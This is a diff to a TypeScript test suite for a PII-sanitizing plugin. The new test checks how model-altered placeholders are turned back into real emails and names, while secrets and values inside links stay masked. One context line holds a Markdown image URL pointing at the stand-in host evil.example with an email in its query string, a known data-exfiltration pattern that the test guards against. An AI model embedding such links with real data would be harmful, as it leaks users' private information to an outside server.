@@ -463,6 +463,28 @@ describe('pii-sanitizer custom categories', () => {
     expect(restored(`const owner = 1; //owner:${person}`)).toBe('const owner = 1; //owner:Alice Martin');
     expect(restored(`![s](//evil.example/p.png?m=${email}) and ${person}`)).toBe(`![s](//evil.example/p.png?m=${email}) and Alice Martin`);
   });
+
+  it('restores the placeholders a model alters (case, a blank, Markdown escapes), the vault issued only, also split across chunks', async () => {
+    const { PiiVault } = await import('../../plugins/pii-sanitizer/vault');
+    const { restoreTransform } = await import('../../plugins/pii-sanitizer/restore-transform');
+    const vault = new PiiVault();
+    vault.reserve('The template says [email_2].');
+    expect(vault.placeholderFor('email', 'alice@corp.example')).toBe('[EMAIL_1]');
+    expect(vault.placeholderFor('email', 'bob@corp.example')).toBe('[EMAIL_3]');
+    vault.placeholderFor('person', 'Alice Martin');
+    vault.placeholderFor('secret', 'hunter2hunter2');
+    const policy = { restores: (category: string) => category !== 'secret', inLinks: false };
+    const answer = 'To [EMAIL 1], [email_1], \\[EMAIL\\_1\\] and [EMAIL\\_1]: [Person_1] wrote [email_2], [EMAIL_9], [secret_1], https://x.example/?m=[email 1].';
+    const expected = 'To alice@corp.example, alice@corp.example, alice@corp.example and alice@corp.example: Alice Martin wrote [email_2], [EMAIL_9], [secret_1], https://x.example/?m=[email 1].';
+    for (const size of [answer.length, 1, 2, 3, 5]) {
+      const restore = restoreTransform(vault, policy);
+      let out = '';
+      for (let k = 0; k < answer.length; k += size) out += restore.push(answer.slice(k, k + size));
+      expect(out + restore.flush()).toBe(expected);
+    }
+    const json = restoreTransform(vault, policy, { insideJson: true });
+    expect(JSON.parse(json.push('{"to":"[email 1]","who":"[Person_1]"}') + json.flush())).toEqual({ to: 'alice@corp.example', who: 'Alice Martin' });
+  });
 });
 
 // A provider that is not OpenAI gets the sanitized system prompt too (it reads input_text parts into its own fields).
